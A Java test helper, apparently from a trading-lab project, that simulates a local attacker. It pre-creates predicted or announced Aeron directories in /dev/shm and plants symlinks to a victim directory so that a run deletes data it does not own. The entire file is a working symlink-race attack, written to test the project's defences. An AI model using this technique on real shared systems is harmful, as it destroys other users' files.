package org.naklab.lab.cli;

import java.io.IOException;
import java.nio.file.AccessDeniedException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.Set;
import java.util.concurrent.locks.LockSupport;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A local user who wants a run to delete a directory that is none of the user's: makes each Aeron directory before its process does, by the
 * name that the run announces or that can be predicted, and puts links to the victim into it. Tells what was tried; ends with its standard
 * input. Stands alone: it is run from a copy of its class file.
 */
final class LinkAttacker {
    private static final Path SHARED_MEMORY = Path.of("/dev/shm");
    private static final Pattern ANNOUNCED = Pattern.compile("\"aeronDirectory\"\\s*:\\s*\"([^\"]+)\"");
    private static final String[] PROCESSES = {"mds", "gateway-1", "exchange"};

    private static final long STEP_NS = 500_000;

    private final Path runs;
    private final Path pid;
    private final Path victim;
    /** Uses no more than the name of the run's directory and the process id of the lab, which anybody can see. */
    private final boolean predictsOnly;

    private final Set<Path> tried = new HashSet<>();

    private LinkAttacker(Path directory, boolean predictsOnly) {
        this.predictsOnly = predictsOnly;
        runs = directory.resolve("runs/baseline");
        pid = directory.resolve("pid");
        victim = directory.resolve("victim");
    }

    public static void main(String[] arguments) throws IOException {
        LinkAttacker attacker = new LinkAttacker(Path.of(arguments[0]), Boolean.parseBoolean(arguments[1]));
        System.out.println("ready");
        while (System.in.available() == 0) {
            attacker.look();
            LockSupport.parkNanos(STEP_NS);
        }
    }

    private void look() throws IOException {
        if (!Files.isDirectory(runs) || !Files.exists(pid)) {
            return;
        }
        try (DirectoryStream<Path> started = Files.newDirectoryStream(runs)) {
            for (Path run : started) {
                plantAll(SHARED_MEMORY
                        .resolve("naklab-" + run.getFileName() + "-" + Files.readString(pid) + "-")
                        .toString());
                if (!predictsOnly) {
                    attackAnnounced(run);
                }
            }
        }
        if (!predictsOnly) {
            attackSeen();
        }
    }

    private void attackSeen() throws IOException {
        try (DirectoryStream<Path> shared = Files.newDirectoryStream(SHARED_MEMORY, "naklab-*")) {
            for (Path directory : shared) {
                if (!tried.contains(directory)) {
                    plantAll(directory + "/");
                }
            }
        }
    }

    private void attackAnnounced(Path run) throws IOException {
        for (String process : PROCESSES) {
            Path config = run.resolve(process + ".json");
            if (Files.exists(config)) {
                attackAnnouncedIn(config);
            }
        }
    }

    private void attackAnnouncedIn(Path config) throws IOException {
        try {
            Matcher announced = ANNOUNCED.matcher(Files.readString(config));
            if (announced.find()) {
                plant(Path.of(announced.group(1)));
            }
        } catch (AccessDeniedException e) {
            report("unreadable", config);
        }
    }

    private void plantAll(String prefix) throws IOException {
        for (String process : PROCESSES) {
            plant(Path.of(prefix + process));
        }
    }

    private void plant(Path aeronDirectory) throws IOException {
        if (!tried.add(aeronDirectory)) {
            return;
        }
        try {
            Files.createDirectory(aeronDirectory);
            Files.createSymbolicLink(aeronDirectory.resolve("images"), victim);
            System.out.println("planted " + aeronDirectory);
        } catch (AccessDeniedException e) {
            System.out.println("denied " + aeronDirectory);
        } catch (IOException e) {
            System.out.println("failed " + e);
        }
    }

    private void report(String what, Path file) {
        if (tried.add(file)) {
            System.out.println(what + " " + file);
        }
    }
}
